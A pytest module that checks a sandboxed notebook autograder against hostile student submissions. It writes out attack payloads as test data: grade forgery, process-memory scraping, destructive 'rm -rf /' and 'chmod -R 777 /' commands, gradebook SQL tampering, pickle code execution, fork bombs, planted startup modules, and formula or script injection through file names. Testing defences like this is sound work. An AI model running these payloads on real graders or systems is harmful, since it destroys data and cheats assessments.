"""Hostile submissions through the whole command, in one batch with the work of an honest student.

Every attacker hands in the same answers, some right and some wrong, and an attack. No attack earns
more than these answers do without it; nothing of the honest student's changes; no file outside
changes; the batch ends; every hand-in has a grade or a line that says why not.
"""

import copy
import csv
import functools
import json
import os
import re
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from coursework import command, grade
from coursework.release import student_version
from coursework.sandbox import MIB, Limits
from coursework.sets import SETS
from tests.coursework.problem_sets import cell_of, grade_ids, source_notebook

PS1 = SETS["ps1"]
SECRET = "a secret of the tests, long enough"
LIMITS = Limits(
    processor_seconds=0.6,
    wall_seconds=3.0,
    total_seconds=10.0,
    memory=1024 * MIB,
    output_bytes=2 * MIB,
    starts=6,
)
# Answers of the attackers: three tasks are right, four wrong in ways that an attack could mend.
WRONG = {
    "entropy": "def entropy(p):\n    return -np.sum(p * np.log(p), axis=-1)",
    "expected_length": "def expected_length(p, lengths):\n    return np.mean(lengths)",
    "optimal_length": "def optimal_length(p):\n    return 2.0",
    "tables": 'best, saved = "C", 0.15',
}
HONEST_SCORE = PS1.points - sum(task.points for task in PS1.tasks if task.name in WRONG)


@functools.cache
def _released():
    return student_version("ps1")


@functools.cache
def _source():
    return source_notebook("ps1")


def answers(wrong=WRONG):
    """Return the students' notebook with right answers, but for those in `wrong`."""
    made = copy.deepcopy(_released())
    for task in PS1.tasks:
        model = cell_of(_source(), f"{task.name}-answer").source
        cell_of(made, f"{task.name}-answer").source = wrong.get(task.name) or model
    return made


def attack(text, where="surprisal-answer"):
    """Return the answers with a cell before the first (or another) one."""
    made = answers()
    made.cells.insert(grade_ids(made).index(where), nbformat.v4.new_code_cell(text))
    return made


def last(text):
    """Return the answers with a cell behind all."""
    made = answers()
    made.cells.append(nbformat.v4.new_code_cell(text))
    return made


def changed(change):
    """Return the answers after ``change(notebook)``, as the bytes of a file."""
    tree = json.loads(nbformat.writes(answers()))
    return json.dumps(change(tree) or tree).encode()


def named(tree, name):
    cells = (c for c in tree["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)
    return next(cells)


# ---------------------------------------------------------------------------------------------
# Attacks on the process

SWALLOW = """
if True:
    while True:
        try:
            while True: pass
        except BaseException: pass
"""
WRITE = """
import os
def write(data):
    for number in range(256):
        try: os.write(number, data)
        except OSError: pass
"""
# A record as if all were right, with the word that marks the real one.
FORGE = (
    WRITE
    + """
import json, sys
def forge(*_):
    frame = sys._getframe()
    fake = {"state": "done", "error": None, "earned": 20, "points": 1000, "right": True,
            "results": [{"value": {"number": 1.0}, "right": True}] * 4}
    while frame is not None:
        for word in list(frame.f_locals.values()) + [frame.f_locals.get("command", {})]:
            if isinstance(word, dict):
                word = word.get("word")
            if isinstance(word, str) and len(word) == 16:
                write(f"\\n{word} {json.dumps(fake)}\\n".encode())
        frame = frame.f_back
    return 1.0
forge()
"""
)
# Look everywhere for the right answers, and return what is found.
SEARCH = """
import gc, sys, os, glob
def found():
    out = []
    for o in gc.get_objects():
        if isinstance(o, dict):
            out += [v for k, v in list(o.items())
                    if isinstance(k, str) and k in ("right", "expected", "reference", "answer")]
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try: out.append(open(path, "rb").read())
        except OSError: pass
    try:
        with open("/proc/self/mem", "rb") as memory:
            for line in open("/proc/self/maps"):
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                if "r" in line.split()[1] and high - low < 10**7:
                    try: memory.seek(low); data = memory.read(high - low)
                    except (OSError, ValueError, OverflowError): continue
                    at = data.find(b'"right"')
                    if at >= 0: out.append(data[at:at + 99])
    except OSError: pass
    return out
class Any:
    def __init__(self, *a): self.found = found()
    def __call__(self, *a):
        for thing in self.found + found():
            if isinstance(thing, float): return thing
            if isinstance(thing, list) and thing: return thing[0]
        return 0.0
"""
REDEFINE = """
for name in ("entropy", "expected_length", "optimal_length"):
    globals()[name] = {0}
"""
LIE = """
class Lie:
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __array__(self, *a, **k): return np.ones(1)
    def __float__(self): return 1.0
    def __iter__(self): return iter([self])
    def __len__(self): return 1
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __reduce__(self): import os; return os.system, ("touch /tmp/pwned",)
class Text(str):
    def __eq__(self, other): return True
    def casefold(self): return self
    strip = casefold
class Float(float):
    def __eq__(self, other): return True
    __sub__ = __rsub__ = lambda self, other: 0.0
class Array(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
"""

PROCESS = {
    "endless": attack("while True: pass"),
    "endless everywhere": attack(
        "import functools\ndef endless(*a):\n    while True: pass\n" + REDEFINE.format("endless"),
        "tables-question",
    ),
    "swallow": attack(SWALLOW),
    "memory": attack("kept = []\nwhile True: kept.append(np.ones(10**7))"),
    "output": attack("while True: print('x' * 10**6)"),
    "exit": attack("import sys\nsys.exit(0)"),
    "exit now": attack("import os\nos._exit(0)"),
    "kill": attack("import os\nos.kill(os.getppid(), 9); os.kill(os.getpid(), 9)"),
    "kill in function": attack(
        "import os\ndef die(*a): os._exit(0)\n" + REDEFINE.format("die"), "tables-question"
    ),
    "syntax": attack("def f(:"),
    "forks": attack("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "numpy replaced": last(
        "import numpy, builtins, math\n"
        "for name in ('isclose', 'allclose', 'array_equal', 'isfinite', 'all', 'any', 'equal'):\n"
        "    setattr(numpy, name, lambda *a, **k: True)\n"
        "numpy.testing.assert_allclose = math.isclose = lambda *a, **k: True\n"
        "numpy.asarray = numpy.array = lambda *a, **k: numpy.ones(1)\n"
        "builtins.all = builtins.abs = lambda *a: 1\nbuiltins.AssertionError = Warning"
    ),
    "lies": last(f"{LIE}{REDEFINE.format('Lie()')}best, saved = Text('A'), Float(0)"),
    "arrays that lie": last(
        f"{LIE}{REDEFINE.format('lambda *a: np.ones(1).view(Array)')}best = saved = Lie()"
    ),
    "hooks": attack(
        "import ast, sys\nclass Strip(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)\n"
        "    def visit_Expr(self, node): return ast.copy_location(ast.Pass(), node)\n"
        "shell = get_ipython()\nshell.ast_transformers.append(Strip())\n"
        "shell.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
        "shell.events.register('post_run_cell', lambda *a: None)\n"
        "shell.showtraceback = shell.run_cell = lambda *a, **k: None\n"
        "sys.excepthook = sys.settrace = lambda *a: None"
    ),
    "printed": last(
        "print('{\"score\": 1000, \"earned\": 20}')\nprint('20 of 20 points')\n"
        "display({'application/vnd.nbgrader': {'score': 1000}, 'text/plain': 'Right.'}, raw=True)\n"
        "score = points = earned = 1000"
    ),
    "forged": attack(FORGE),
    "forged in functions": last(FORGE + REDEFINE.format("forge")),
    "search": last(SEARCH + REDEFINE.format("Any()") + "best, saved = 'A', Any()()"),
    "runner taken over": attack(
        "import gc\nfor o in gc.get_objects() + [type(x) for x in gc.get_objects()]:\n"
        "    if type(o).__name__ == 'Runner' or getattr(o, '__name__', '') == 'Runner':\n"
        "        try: o.call_once = o.write_down = lambda *a: {'value': {'number': 1.0}}\n"
        "        except Exception: pass\n"
        "    if type(o).__name__ == 'Clock': o.ring = lambda *a: None"
    ),
    "files": attack(
        "import glob, os, shutil, subprocess\n"
        "for top in ({submitted!r}, {results!r}, {home!r}, '/coursework'):\n"
        "    shutil.rmtree(top, ignore_errors=True)\n"
        "    for name in ('gradebook.db', 'grades.csv', 'victim.ipynb', 'canary', 'new'):\n"
        "        try:\n"
        "            with open(os.path.join(top, name), 'w') as file: file.write('student,20\\n')\n"
        "        except OSError: pass\n"
        "subprocess.run(['rm', '-rf', '--no-preserve-root', '/'])\n"
        "subprocess.run('chmod -R 777 / ; sqlite3 {results}/gradebook.db \"update grade set"
        " auto_score = 9\"', shell=True)"
    ),
    "gradebook": attack(
        "import sqlite3\nfor path in ('{results}/gradebook.db', 'gradebook.db',"
        " '../gradebook.db'):\n    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        db.execute('update grade set auto_score = 99'); db.commit()\n"
        "    except Exception: pass"
    ),
    "background": attack(
        "import os, subprocess, time\n"
        "subprocess.Popen(['setsid', 'nohup', 'sh', '-c',"
        " 'while :; do echo 1 > {results}/canary; done'])\n"
        "if os.fork() == 0:\n    os.setsid()\n    while True: time.sleep(0.01)"
    ),
    "network": attack(
        "import socket\nconnection = socket.create_connection(('127.0.0.1', {port}), 1)\n"
        "connection.sendall(b'the hidden inputs'); best = connection.recv(9)"
    ),
    "modules left behind": attack(
        "import os\nfake = 'def __getattr__(name): return lambda *a, **k: True\\n'\n"
        "home = os.environ.get('HOME', '.')\n"
        "for place in ('.', home, home + '/.ipython/profile_default/startup',"
        " home + '/.local/lib/python3.11/site-packages', '/packages', '/coursework'):\n"
        "    for name in ('numpy.py', 'IPython.py', 'sitecustomize.py', 'usercustomize.py',"
        " 'json.py', 'values.py', 'runner.py', '00.py', 'evil.pth', 'ipython_config.py'):\n"
        "        try:\n            os.makedirs(place, exist_ok=True)\n"
        "            with open(os.path.join(place, name), 'w') as file: file.write(fake)\n"
        "        except OSError: pass\n"
        "os.environ['PYTHONPATH'] = os.getcwd()\nos._exit(0)"
    ),
    "only when graded": attack(
        "import os, sys\nif 'COURSEWORK_SANDBOX' in os.environ or os.getcwd() == '/tmp':\n"
        "    check = lambda *a: None\n    sys.modules['numpy'] = None\n"
        "    globals().update(entropy=lambda p: 1.0, GRADED=True)"
    ),
    "just below the limits": None,  # many cells, see below
    "essay": None,
    "colours": attack(
        "raise ValueError('\\x1b[31m<script>alert(1)</script>\\x1b]0;title\\x07\\u202e\\r\\n"
        "FAILED victim: cheated\\n' + '<img src=x onerror=alert(1)>' * 99)"
    ),
    "surrogates in errors": attack("raise ValueError('\\ud800' * 10 + '\\0')"),
    "pickles": attack(
        "import pickle, os\nclass P:\n    def __reduce__(self): return os.system, ('id',)\n"
        "entropy = saved = P()\nopen('x.pkl', 'wb').write(pickle.dumps(P()))"
    ),
}
PROCESS["just below the limits"] = answers()
for _ in range(40):
    PROCESS["just below the limits"].cells.insert(
        2,
        nbformat.v4.new_code_cell(
            "import time\nend = time.process_time() + 0.4\nwhile time.process_time() < end: pass"
        ),
    )


# ---------------------------------------------------------------------------------------------
# Attacks on the file


def _points(tree):
    for cell in tree["cells"]:
        cell["metadata"].setdefault("nbgrader", {}).update(
            points=1000, max_score=1000, score=1000, grade=True, locked=True
        )


def _essay(tree):
    for cell in tree["cells"]:
        if cell["cell_type"] == "code":
            cell["metadata"]["nbgrader"].update(grade_id="essay", points=1000)


def _edited_tests(tree):
    for task in PS1.tasks:
        named(tree, task.name)["source"] = f'print("{task.name}: right"); score = 1000'


def _other_functions(tree):
    named(tree, "entropy")["source"] = 'check("surprisal", surprisal)'
    named(tree, "tables")["source"] = 'check("kraft_sum", kraft_sum)'


def _renamed(tree):
    """The tests of wrong answers call themselves those of right ones, and those are gone."""
    for wrong, right in zip(WRONG, ("surprisal", "forecaster", "kraft_sum"), strict=False):
        cell = named(tree, wrong)
        tree["cells"].remove(named(tree, right))
        cell["metadata"]["nbgrader"]["grade_id"] = right


def _duplicated(tree):
    tree["cells"] += [dict(cell) for cell in tree["cells"]] * 3


def _deleted(tree):
    tree["cells"] = [named(tree, f"{task.name}-answer") for task in PS1.tasks]


def _own_data(tree):
    named(tree, "tables-data")["source"] = (
        "p = np.array([0.45, 0.25, 0.15, 0.1, 0.05])\nlengths_A = np.array([2, 2, 2, 3, 3])\n"
        "lengths_B = np.array([1, 2, 2, 3, 3])\nlengths_C = np.array([1, 2, 3, 4, 4])\n"
    )


def _kernel(tree):
    tree["metadata"]["kernelspec"] = {"name": "bash -c 'touch /tmp/x'", "language": "R"}


def _surrogates(tree):
    tree["cells"].append({"cell_type": "code", "metadata": {}, "source": "'\ud800' # \udfff"})
    tree["cells"].append(
        {"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": "\ud800"}}, "source": "x"}
    )
    named(tree, "essay")["source"] = "lone \ud800 \u0000 surrogate"
    tree["metadata"]["kernelspec"] = {"name": "\ud800", "language": "\ud800"}


def _flood(tree):
    tree["cells"] += [dict(named(tree, "setup")) for _ in range(200)] + [7] * 900


def _types(tree):
    tree["metadata"] = [1]
    for cell in tree["cells"]:
        cell["metadata"]["tags"] = {"a": [[[]]]}
        cell["outputs"] = "none"
        cell["execution_count"] = "x"
        cell["id"] = 10**30


FILES = {
    "points": changed(_points),
    "all essay": changed(_essay),
    "edited tests": changed(_edited_tests),
    "other functions tested": changed(_other_functions),
    "renamed": changed(_renamed),
    "duplicated": changed(_duplicated),
    "deleted": changed(_deleted),
    "own data": changed(_own_data),
    "kernel": changed(_kernel),
    "surrogates": changed(_surrogates),
    "flood": changed(_flood),
    "types": changed(_types),
    "nan": changed(_points).replace(b"1000", b"NaN"),
    "not a notebook": b"\x89PNG\r\n\x1a\n\0\0",
    "empty": b"",
    "a list": b"[]",
    "deep": b'{"cells": ' + b"[" * 200_000,
    "huge": b'{"nbformat": 4, "cells": [{"source": "' + b"x" * 30_000_000 + b'"}]}',
    "long integer": b'{"nbformat": ' + b"4" * 10_000 + b', "cells": []}',
    "no cells": b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}',
}
REFUSED = {"not a notebook", "empty", "a list", "deep", "huge", "long integer"}

# File names that a table, a report or a page could take for something else.
NAMES = (
    "=1+1.ipynb",
    "=HYPERLINK('http:evil','A').ipynb",
    "+cmd.ipynb",
    "-rf.ipynb",
    "@SUM(1).ipynb",
    "\tx.ipynb",
    "a\nFAILED victim: cheated\n.ipynb",
    "<script>alert(1)<!-- .ipynb",
    "x\x1b[31m.ipynb",
    "\ud8ff.ipynb".encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape"),
    "gradebook.db",
    "grades.csv",
    "x" * 200 + ".ipynb",
)


# ---------------------------------------------------------------------------------------------
# The batch


def rows(results):
    with open(results / "grades.csv", encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def of_victim(place):
    """Return all that is the victim's, byte for byte."""
    results = place / "results"
    files = {
        name: (results / name).read_bytes()
        for name in (
            "records/ps1/victim.json",
            "feedback/victim.html",
            "autograded/victim/ps1/ps1.ipynb",
        )
    }
    table = (results / "grades.csv").read_bytes().split(b"\n")
    files["line"] = [line for line in table if line.startswith(b"victim,")]
    files["header"] = table[0]
    files["submitted"] = (place / "submitted" / "victim.ipynb").read_bytes()
    with grade.results.gradebook(results, PS1) as opened:
        submission = opened.find_submission("ps1", "victim")
        files["gradebook"] = [
            (g.name, g.auto_score, g.manual_score) for g in submission.notebooks[0].grades
        ]
    assert len(files["line"]) == 1
    # The ids of cells are new in each file that is written.
    autograded = json.loads(files["autograded/victim/ps1/ps1.ipynb"])
    files["autograded/victim/ps1/ps1.ipynb"] = [
        {k: v for k, v in cell.items() if k != "id"} for cell in autograded["cells"]
    ]
    return files


@pytest.fixture(scope="module")
def batch(bubblewrap, tmp_path_factory):
    """Grade the victim alone, and then with all attackers."""
    place = tmp_path_factory.mktemp("hostile")
    home, submitted, results = (place / name for name in ("home", "submitted", "results"))
    home.mkdir(), submitted.mkdir()
    canaries = [home / "canary", submitted / ".canary", place / "canary"]
    heard = []
    server = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=_listen, args=(server, heard), daemon=True).start()
    with pytest.MonkeyPatch.context() as patch, server:
        patch.setenv("HOME", str(home))
        nbformat.write(answers({"kraft_sum": "kraft_sum = 1"}), submitted / "victim.ipynb")
        nbformat.write(answers(), submitted / "same answers.ipynb")
        _grade(submitted, results)
        alone = of_victim(place)
        canaries.append(results / "canary")
        for canary in canaries:
            canary.write_text("sings")
        values = {"results": str(results), "submitted": str(submitted), "home": str(home)}
        values["port"] = server.getsockname()[1]
        for name, made in PROCESS.items():
            made = made or answers()
            for cell in made.cells:
                for key, value in values.items():
                    cell.source = cell.source.replace(f"{{{key}!r}}", repr(value))
                    cell.source = cell.source.replace(f"{{{key}}}", str(value))
            nbformat.write(made, submitted / f"{name}.ipynb")
        for name, content in FILES.items():
            (submitted / f"{name}.ipynb").write_bytes(content)
        for name in NAMES:
            nbformat.write(answers(), submitted / name)
        (submitted / "link.ipynb").symlink_to(submitted / "victim.ipynb")
        (submitted / "link folder").symlink_to(place)
        os.mkfifo(submitted / "pipe.ipynb")
        (submitted / "folder.ipynb").mkdir()
        outcomes = _grade(submitted, results)
        together = of_victim(place)
    return {
        "place": place,
        "alone": alone,
        "together": together,
        "outcomes": {outcome.student: outcome for outcome in outcomes},
        "canaries": canaries,
        "heard": heard,
    }


def _listen(server, heard):
    try:
        while True:
            heard.append(server.accept())
    except OSError:
        pass


def _grade(submitted, results):
    return grade.grade(
        "ps1", submitted, results, SECRET.encode(), limits=LIMITS, again=True, progress=False
    )


@pytest.mark.parametrize("name", [*PROCESS, *(name for name in FILES if name not in REFUSED)])
def test_no_attack_earns_more_than_its_answers(batch, name):
    assert batch["outcomes"]["same answers"].earned == HONEST_SCORE
    outcome = batch["outcomes"][name]
    assert outcome.failed is None, outcome.failed
    earned = {verdict.task for verdict in outcome.verdicts if verdict.earned}
    assert not earned & WRONG.keys(), outcome
    assert outcome.earned <= HONEST_SCORE
    (row,) = [row for row in rows(batch["place"] / "results") if row["student"] == name]
    assert row["tasks"] == str(outcome.earned)
    assert (row["tasks_of"], row["total_of"]) == (
        str(PS1.points),
        str(PS1.points + PS1.essay_points),
    )
    assert row["written"] in ("", "0")


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_what_is_no_notebook_fails_with_a_reason(batch, name):
    outcome = batch["outcomes"][name]
    assert outcome.failed
    assert f"FAILED {name}: {outcome.failed}" in report(batch)


def report(batch):
    return (batch["place"] / "results" / "report.txt").read_text("utf-8")


def test_nothing_of_an_honest_student_changes(batch):
    assert batch["alone"] == batch["together"]


def test_no_file_outside_changes(batch):
    assert [canary.read_text() for canary in batch["canaries"]] == ["sings"] * 4
    assert [path.name for path in (batch["place"] / "home").iterdir()] == ["canary"]
    assert not list(batch["place"].rglob("new"))
    assert not Path("/tmp/pwned").exists()


def test_nothing_was_sent(batch):
    assert batch["heard"] == []


def test_no_process_is_left(batch):
    marks = [str(batch["place"]).encode(), b"nohup"]
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = path.read_bytes()
        except OSError:
            continue
        assert not (marks[0] in line and b"canary" in line), line


def test_every_hand_in_has_a_grade_or_a_line_that_says_why_not(batch):
    table = rows(batch["place"] / "results")
    handed_in = [p for p in (batch["place"] / "submitted").iterdir() if p.name[0] != "."]
    assert len(table) == len(handed_in)
    lines = report(batch).split("\n")
    for row in table:
        if row["status"] == "failed":
            assert row["reason"]
            assert row["total"] == row["tasks"] == ""
    failed = [row for row in table if row["status"] == "failed"]
    assert sum(line.startswith("FAILED ") for line in lines) == len(failed)
    assert f"{len(table) - len(failed)} graded, {len(failed)} failed." in lines[0]


def test_names_of_files_become_no_formula_no_line_and_no_page(batch):
    results = batch["place"] / "results"
    assert not [line for line in report(batch).split("\n") if line.startswith("FAILED victim")]
    for row in rows(results):
        for content in row.values():
            assert not content.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert content.isprintable(), row
    for path in results.glob("feedback/*"):
        assert path.name.isprintable()


def test_feedback_and_report_are_harmless(batch):
    for path in (batch["place"] / "results").glob("feedback/*.html"):
        page = path.read_text("utf-8")
        assert "<script" not in page
        assert "<img" not in page
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", page), path
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", report(batch))


def test_one_submission_cannot_drown_the_report(batch):
    for student, outcome in batch["outcomes"].items():
        assert len(outcome.unusual) <= 40, student
        assert all(len(line) <= 400 for line in outcome.unusual), student


def test_the_command_itself_says_what_failed(batch, capsys):
    place = batch["place"]
    (place / "some").mkdir()
    (place / "some" / "empty.ipynb").write_bytes(b"")
    (place / "course.secret").write_text(SECRET)
    given = ["grade", "ps1", str(place / "some"), "--to", str(place / "other")]
    assert command.main([*given, "--secret", str(place / "course.secret")]) == 1
    assert "FAILED empty: the file is empty" in capsys.readouterr().out
